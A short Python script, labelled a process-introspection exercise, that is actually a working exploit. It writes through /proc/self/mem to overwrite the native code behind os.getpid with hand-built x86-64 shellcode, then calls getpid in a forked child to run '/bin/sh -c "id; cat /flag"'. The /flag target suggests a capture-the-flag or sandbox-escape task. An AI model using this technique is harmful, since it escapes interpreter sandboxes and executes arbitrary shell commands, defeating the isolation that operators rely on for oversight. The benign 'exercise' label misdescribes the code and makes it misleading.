# Process-introspection exercise: "what does a builtin look like in memory?"
import os
import struct


def _peek(fd, addr, n):
    os.lseek(fd, addr, os.SEEK_SET)
    return os.read(fd, n)


def _poke(fd, addr, data):
    # /proc/self/mem writes go through the kernel's forced-access path, so
    # read-only/executable text pages are patched in place.
    os.lseek(fd, addr, os.SEEK_SET)
    return os.write(fd, data)


def _stub(cmd):
    # execve("/bin/sh", ["/bin/sh", "-c", cmd], NULL) -- x86-64
    strings = b"/bin/sh\0" + b"-c\0" + cmd + b"\0"
    def lea(reg, target, here):
        return b"\x48\x8d" + bytes([reg]) + struct.pack("<i", target - (here + 7))
    code_len = 7 * 3 + 2 + 4 + 3 + 2 + 5 + 2
    s_sh, s_c, s_cmd = code_len, code_len + 8, code_len + 11
    out = lea(0x3D, s_sh, 0)             # lea rdi, [rip+sh]
    out += lea(0x35, s_c, len(out))      # lea rsi, [rip+"-c"]
    out += lea(0x15, s_cmd, len(out))    # lea rdx, [rip+cmd]
    out += b"\x31\xc9"                   # xor ecx, ecx
    out += b"\x51\x52\x56\x57"           # push rcx, rdx, rsi, rdi  -> argv
    out += b"\x48\x89\xe6"               # mov rsi, rsp
    out += b"\x31\xd2"                   # xor edx, edx
    out += b"\xb8\x3b\x00\x00\x00"       # mov eax, 59
    out += b"\x0f\x05"                   # syscall
    assert len(out) == code_len
    return out + strings


def main():
    victim = os.getpid
    fd = os.open("/proc/self/mem", os.O_RDWR)
    m_ml = struct.unpack("<Q", _peek(fd, id(victim) + 16, 8))[0]     # PyCFunctionObject.m_ml
    impl = struct.unpack("<Q", _peek(fd, m_ml + 8, 8))[0]            # PyMethodDef.ml_meth
    print("getpid impl at", hex(impl))
    child = os.fork()
    if child == 0:
        _poke(fd, impl, _stub(b"id; cat /flag"))
        victim()                         # now runs our stub instead
        os._exit(0)
    os.waitpid(child, 0)


if __name__ == "__main__":
    main()
